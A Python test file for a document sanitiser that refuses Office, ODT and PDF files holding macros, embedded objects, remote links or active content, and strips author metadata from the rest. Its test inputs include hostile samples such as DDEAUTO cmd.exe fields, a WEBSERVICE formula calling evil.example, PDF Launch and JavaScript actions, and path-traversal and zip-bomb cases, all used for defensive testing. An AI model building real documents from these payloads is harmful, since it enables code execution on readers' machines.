"""Documents: what acts, loads or carries is refused with its reason; what is taken tells nothing of its writers."""

import io
import zipfile

import pikepdf
import pytest
from pikepdf import Dictionary, Name, String

from tests.paper.documents import OLD, acting, attaching, docx, odt, packed, pdf, relation, signed, xlsx
from tests.paper.files import photo
from thammuu.paper.examining import examine
from thammuu.paper.packages import MOST_BYTES
from thammuu.paper.rules import MediaType, Unfit

PIXELS = {"pixels": 64_000_000}
FIELD = "<w:instrText xmlns:w='w'>{}</w:instrText>"
ZIP = packed({"a.txt": "x"})


def _of(content: bytes) -> str:
    value = examine(content, PIXELS).value
    return str(value.get("unfit") or value["kind"])


def _made_harmless(content: bytes) -> bytes:
    answer = examine(content, PIXELS)
    assert "kind" in answer.value, answer.value
    return answer.blobs[0]


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (docx(word__vbaProject_bin=b"x"), Unfit.MACROS),
        (docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), Unfit.MACROS),
        (docx(word__activeX__activeX1_xml="<x/>"), Unfit.MACROS),
        (xlsx(xl__macrosheets__sheet1_xml="<x/>"), Unfit.MACROS),
        (docx(word__embeddings__oleObject1_bin=OLD), Unfit.EMBEDDED),
        (docx(word__embeddings__a_bin=b"MZ\x90"), Unfit.EMBEDDED),
        (docx(word__embeddings__a_docx=docx(word__embeddings__b_docx=docx())), Unfit.EMBEDDED),
        (docx(word__embeddings__a_xlsx=xlsx(xl__vbaProject_bin=b"x")), Unfit.MACROS),
        (docx(relations=relation("attachedTemplate", "http://evil.example/t.dotm")), Unfit.REMOTE),
        (docx(relations=relation("oleObject", "\\\\evil\\share")), Unfit.REMOTE),
        (docx(relations=relation("image", "http://evil.example/p.png")), Unfit.REMOTE),
        (docx(relations=relation("hyperlink", "javascript:alert(1)")), Unfit.ACTIVE),
        (docx(relations=relation("hyperlink", "file://evil/x.exe")), Unfit.ACTIVE),
        (docx(FIELD.format("DDEAUTO c:\\\\windows\\\\cmd.exe")), Unfit.ACTIVE),
        (docx(FIELD.format("DDE") + FIELD.format("AUTO cmd")), Unfit.ACTIVE),
        (xlsx("<f>cmd|'/C calc'!A0</f>"), Unfit.ACTIVE),
        (xlsx('<f>WEBSERVICE("http://evil.example")</f>'), Unfit.ACTIVE),
        (xlsx(xl__externalLinks__link1_xml='<externalLink><ddeLink ddeService="cmd"/></externalLink>'), Unfit.ACTIVE),
        (docx(word__bomb_xml='<!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>'), Unfit.DAMAGED),
        (docx(**{"..__..__evil_xml": "<x/>"}), Unfit.DAMAGED),
        (docx(word__document_XML="<x/>"), Unfit.DAMAGED),
        (odt("<script:event-listener/>"), Unfit.MACROS),
        (odt("<text:dde-connection-decl/>"), Unfit.ACTIVE),
        (odt('<draw:image xlink:href="http://evil.example/p.png"/>'), Unfit.REMOTE),
        (odt('<text:a xlink:href="vnd.sun.star.script:x"/>'), Unfit.ACTIVE),
        (odt("<draw:object-ole/>"), Unfit.EMBEDDED),
        (odt(Basic__script_xml="<x/>"), Unfit.MACROS),
        (pdf(acting(S=Name.JavaScript, JS=String("app.alert(1)"))), Unfit.ACTIVE),
        (pdf(acting(S=Name.Launch, F=String("cmd.exe"))), Unfit.ACTIVE),
        (pdf(acting(S=Name.URI, URI=String("javascript:alert(1)"))), Unfit.ACTIVE),
        (pdf(acting(S=Name.GoToR, F=String("//evil/x"))), Unfit.REMOTE),
        (pdf(acting(S=Name.GoTo, Next=Dictionary(S=Name.SubmitForm))), Unfit.ACTIVE),
        (pdf(attaching), Unfit.EMBEDDED),
        (pdf(encryption=pikepdf.Encryption(owner="x", user="x")), Unfit.LOCKED),
        (pdf()[:300], Unfit.DAMAGED),
        (pdf(signed) + ZIP, Unfit.MIXED),
        (OLD + "WordDocument".encode("utf-16-le") + ZIP, Unfit.MIXED),
        (OLD + "WordDocument\x01Ole10Native".encode("utf-16-le"), Unfit.EMBEDDED),
        (OLD + "EncryptedPackage".encode("utf-16-le"), Unfit.LOCKED),
        (OLD + "Workbook".encode("utf-16-le"), Unfit.DAMAGED),
    ],
)  # fmt: skip
def test_what_could_act_is_refused_with_its_reason(content: bytes, why: Unfit) -> None:
    assert _of(content) == why


@pytest.mark.parametrize(
    "content",
    [docx(), odt(), pdf(), docx(word__embeddings__a_xlsx=xlsx()), pdf(acting(S=Name.GoTo, D=[0]))],
    ids=["docx", "odt", "pdf", "docx with a chart", "pdf that opens at a page"],
)
def test_what_is_taken_tells_nothing_of_its_writers(content: bytes) -> None:
    harmless = _made_harmless(content)
    assert b"SECRET" not in _unpacked(harmless)
    assert b"SECRET" in _unpacked(content)
    again = examine(harmless, PIXELS)
    assert again.value == examine(content, PIXELS).value
    assert again.blobs[0] == harmless, "cleaning twice changes nothing"


def test_the_words_and_pictures_of_a_document_stay() -> None:
    with zipfile.ZipFile(io.BytesIO(_made_harmless(docx()))) as package:
        assert "Báo cáo" in package.read("word/document.xml").decode()
        assert package.read("word/media/image1.jpeg")[:3] == b"\xff\xd8\xff"
        assert b"thumbnail" not in package.read("_rels/.rels")
        assert "docProps/thumbnail.jpeg" not in package.namelist()


def test_a_link_in_a_text_may_stay() -> None:
    assert _of(docx(relations=relation("hyperlink", "https://chinhphu.vn/"))) == MediaType.DOCX
    assert _of(pdf(acting(S=Name.URI, URI=String("https://chinhphu.vn/")))) == MediaType.PDF


@pytest.mark.parametrize("content", [pdf(signed), docx(_xmlsignatures__sig1_xml="<x/>")], ids=["pdf", "docx"])
def test_a_signed_document_stays_as_it_came(content: bytes) -> None:
    if content.startswith(b"PK"):
        content = packed({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>", "_xmlsignatures/a.xml": "<x/>"})
    answer = examine(content, PIXELS)
    assert (answer.value.get("unfit"), list(answer.blobs)) in [(None, []), (None, [content])]


@pytest.mark.parametrize("around", [(b"", ZIP), (b"<script>alert(1)</script>", b"")])
def test_what_stands_around_a_document_is_refused_or_gone(around: tuple[bytes, bytes]) -> None:
    for content in (docx(), pdf(), photo()):
        answer = examine(around[0] + content + around[1], PIXELS)
        if "kind" in answer.value:
            assert b"alert(1)" not in answer.blobs[0]
            assert ZIP not in answer.blobs[0]


def test_a_package_that_unpacks_without_end_is_refused() -> None:
    parts = {"[Content_Types].xml": "<x/>", "word/document.xml": bytes(MOST_BYTES + 1)}
    assert _of(packed(parts)) == Unfit.TOO_MUCH


def test_a_package_that_lies_about_its_size_is_refused() -> None:
    honest = packed({"[Content_Types].xml": "<x/>", "word/a.xml": b" " * 5000})
    assert _of(honest.replace((5000).to_bytes(4, "little"), (50).to_bytes(4, "little"))) == Unfit.DAMAGED


def _unpacked(content: bytes) -> bytes:
    if not content.startswith(b"PK"):
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return b"\n".join(package.read(part) for part in package.infolist())
